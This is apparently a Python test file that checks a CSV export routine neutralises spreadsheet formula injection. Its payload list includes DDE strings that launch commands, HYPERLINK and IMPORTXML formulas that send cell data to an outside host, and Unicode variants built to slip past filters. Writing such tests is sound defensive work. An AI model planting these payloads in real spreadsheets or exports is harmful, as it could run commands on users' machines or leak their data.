"""A file for spreadsheets says what the list says, and never does anything."""

from __future__ import annotations

import csv
import io
import random
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from data.core.delimited import delimited, harmless
from data.core.text import clean

_FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Happy Birthday")',
    '=IMPORTXML("http://example.org","//a")',
    "=WEBSERVICE(A1)",
    "+61 2 5550 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"!A0")',
    "=1;=2",
)
_BEFORE = ("", " ", "   ", "\t", "\r", "\n", "\xa0", "\u3000", "\u200b", "\ufeff", "\u2007", "\x0b", "\x00", "\t\r ")
_VARIANTS = {"=": "＝﹦⁼", "+": "＋﹢⁺", "-": "－﹣−", "@": "＠﹫"}
_SIGNS = "=+-@\t\r＝＋－＠﹦﹢﹣﹫−⁼⁺"


def payloads() -> list[str]:
    """Two hundred texts that a spreadsheet would run."""
    found = [before + formula for before in _BEFORE for formula in _FORMULAS]
    found += [variant + formula[1:] for formula in _FORMULAS for variant in _VARIANTS[formula[0]]]
    dice = random.Random(6)
    while len(found) < 200:
        before = "".join(dice.choices(_BEFORE, k=2))
        found.append(before + dice.choice(_SIGNS) + dice.choice(["1", "SUM(A1)", "'", '"', ",", ";", "\n=1"]))
    return found


PAYLOADS = payloads()


def read(content: bytes) -> list[list[Any]]:
    """As a spreadsheet reads it: bare cells are numbers."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), quoting=csv.QUOTE_NONNUMERIC))


def test_there_are_two_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) >= 190
    assert len(PAYLOADS) >= 200


@pytest.mark.parametrize("payload", PAYLOADS, ids=repr)
def test_no_payload_comes_back_as_a_formula(payload: str) -> None:
    ((_title,), (cell,)) = read(delimited(["Writing"], [[payload]]))

    assert isinstance(cell, str)
    assert cell[0] == "'"
    assert cell[1:] == clean(payload)


def test_all_payloads_in_one_file_stay_in_their_cells() -> None:
    rows: list[list[Any]] = [[payload, n, payload] for n, payload in enumerate(PAYLOADS)]
    read_back = read(delimited(["One", "Number", "Other"], rows))

    assert [row[1] for row in read_back[1:]] == list(range(len(PAYLOADS)))
    assert all(len(row) == 3 and row[0] == row[2] for row in read_back[1:])


@pytest.mark.parametrize("title", ["=1", " +1", "＠a"])
def test_a_column_may_not_run_either(title: str) -> None:
    assert str(read(delimited([title], []))[0][0]).startswith("'")


@pytest.mark.parametrize(
    "text",
    ["Happy Birthday", "20001-A", "'quoted'", "2026-11-27", "10:00-12:00", "no nuts = safe", "", "a\nb", 'say "hi"'],
)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert read(delimited(["Text"], [[text]]))[1:] == [[text]]


def test_numbers_are_numbers_and_nothing_is_nothing() -> None:
    content = delimited(["Name", "Count"], [["Flour", -1200], [None, None], ["7", 7]])

    assert content.decode("utf-8-sig") == '"Name","Count"\r\n"Flour",-1200\r\n"",""\r\n"7",7\r\n'


def test_a_file_says_that_it_is_utf_8() -> None:
    assert delimited(["Käse"], [["抹茶"]]).startswith(b"\xef\xbb\xbf")


@given(st.lists(st.lists(st.text() | st.integers(-(10**12), 10**12) | st.none(), min_size=3, max_size=3), max_size=5))
def test_whatever_is_listed_comes_back(rows: list[list[str | int | None]]) -> None:
    read_back = read(delimited(["a", "b", "c"], rows))

    assert read_back[1:] == [
        ["" if cell is None else harmless(cell) if isinstance(cell, str) else cell for cell in row] for row in rows
    ]


@given(st.text(alphabet=st.characters() | st.sampled_from(_SIGNS + " \xa0\u200b'"), min_size=1))
def test_nothing_that_is_written_begins_like_a_formula(text: str) -> None:
    written = harmless(text).lstrip()

    assert not written or written[0] not in _SIGNS
